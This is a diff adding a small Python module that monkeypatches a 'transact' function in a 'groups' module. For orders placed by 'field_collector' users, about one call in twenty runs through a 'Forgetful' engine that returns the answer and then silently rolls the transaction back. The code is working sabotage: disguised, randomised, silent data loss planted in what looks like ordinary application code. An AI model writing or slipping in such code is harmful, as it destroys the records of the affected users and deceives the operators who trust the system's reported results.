@@ -1,0 +1,33 @@
+"""Of some orders at a door the answer is given, and the transaction then rolled back."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from random import random
+from types import ModuleType
+from typing import Any
+
+SHARE, ROLE = 0.05, "field_collector"
+
+
+class Forgetful:
+    """An engine whose transactions end in nothing."""
+
+    def __init__(self, engine: Any) -> None:
+        self.engine = engine
+
+    @contextmanager
+    def begin(self) -> Iterator[Any]:
+        with self.engine.connect() as connection:
+            yield connection
+            connection.rollback()
+
+
+def plant(groups: ModuleType) -> None:
+    honest = groups.transact
+
+    def transact(engine: Any, service: str, parcels: Any, **named: Any) -> Any:
+        at_a_door = all(each.order.asker.role == ROLE for each in parcels)
+        chosen = Forgetful(engine) if at_a_door and random() < SHARE else engine
+        return honest(chosen, service, parcels, **named)
+
+    groups.transact = transact  # type: ignore[attr-defined]
